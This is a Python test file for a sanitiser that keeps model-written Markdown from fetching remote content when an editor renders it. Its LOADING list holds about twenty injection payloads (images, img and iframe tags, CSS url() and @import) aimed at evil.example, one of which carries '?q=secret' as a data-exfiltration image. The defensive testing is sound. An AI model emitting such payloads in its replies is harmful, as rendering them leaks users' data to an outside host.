"""What a model writes loads nothing when an editor renders it; judged by a real Markdown parser."""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from lsp_server.chat.replies.harmless import INVISIBLE, harmless

SHOWN = [
    "Plain `code` and **bold**, a < b, a <= b, [a link](https://example.org/).",
    "- `Vec<T>`: a list\n- `Map<String, List<Integer>>`: a map\n",
    "```html\n<img src='https://example.org/x.png'>\n```\n",
    "~~~~\n```\n![x](https://example.org)\n~~~~\n",
    "`vec![1, 2]` makes a vector, and `x[1]` takes from it.",
]

LOADING = [
    "![x](https://evil.example/?q=secret)",
    "![x](  <https://evil.example/a b>)",
    "!![x](//evil.example/p)",
    "![x](&#104;ttps://evil.example/p)",
    "![a\n[b] c](https\\://evil.example/p)",
    "![x][r]\n\n[r]: https://evil.example/p",
    "![r]\n\n> [r]:\n> https://evil.example/p",
    "<img src=https://evil.example/p>",
    "a <img\nsrc=https://evil.example/p>",
    "a <b style='background: url(https://evil.example/p)'>",
    "a <STYLE>@import 'https://evil.example/p'</style>",
    "- a\n  ```\n<img src=https://evil.example/p>\n",
    "- a\n\n      ```\n  <img src=https://evil.example/p>\n",
    "``` a`b\n<img src=https://evil.example/p>\n",
    "<T>\n```\n<img src=https://evil.example/p>\n```\n</T>",
    "<!-- \n```\n-->\n<iframe src=https://evil.example/p>",
    "`a\nb` <img src=https://evil.example/p> `c`",
    "\\` <img src=https://evil.example/p> `",
    "[![x](https://evil.example/p)](https://example.org)",
]

PIECES = [
    *("![x](https://e.example/p)", "[r]: https://e.example", "[r]:\n https://e.example", "![r]", "![x][r]"),
    *("![\\]](https://e.example)", "![x [y] z](https://e.example)", "![`a`](https://e.example)", "!"),
    *("<img src=//e>", "<T>", "<a\nhref=x>", "<style>", "<!--", "-->", "<div>", "</div>", "&lt;", "<"),
    *("`", "``", "```", "~~~", "\n", "\n\n", "\r", "\t", "  ", "    ", "- ", "> ", "1. ", "# ", "\\"),
    *("[", "]", "(", ")", ":", "a", "](", "\n```\n", "\n---\n"),
]


def loads(markdown: str) -> list[str]:
    """Return what rendering may fetch: images, and tags with attributes or with programs."""
    found = []
    for token in MarkdownIt("commonmark").parse(markdown):
        for part in [token, *(token.children or [])]:
            if part.type == "image":
                found.append(str(part.attrs.get("src")))
            elif part.type in {"html_block", "html_inline"}:
                found += re.findall(r"(?i)<[a-z][^>]*=|<(?:style|script)", part.content)
    return found


@pytest.mark.parametrize("markdown", SHOWN)
def test_what_loads_nothing_stays_as_it_is(markdown: str) -> None:
    assert harmless(markdown) == markdown


@pytest.mark.parametrize("markdown", LOADING)
def test_what_would_load_something_loads_nothing(markdown: str) -> None:
    assert loads(markdown)
    assert loads(harmless(markdown)) == []


def test_a_tag_in_code_looks_the_same() -> None:
    assert harmless("Use `<img src=x>`.").replace(INVISIBLE, "") == "Use `<img src=x>`."


@settings(max_examples=500)
@given(st.lists(st.sampled_from(PIECES), max_size=14).map("".join))
def test_nothing_that_can_be_put_together_loads_anything(markdown: str) -> None:
    safe = harmless(markdown)
    assert loads(safe) == []
    assert harmless(safe) == safe
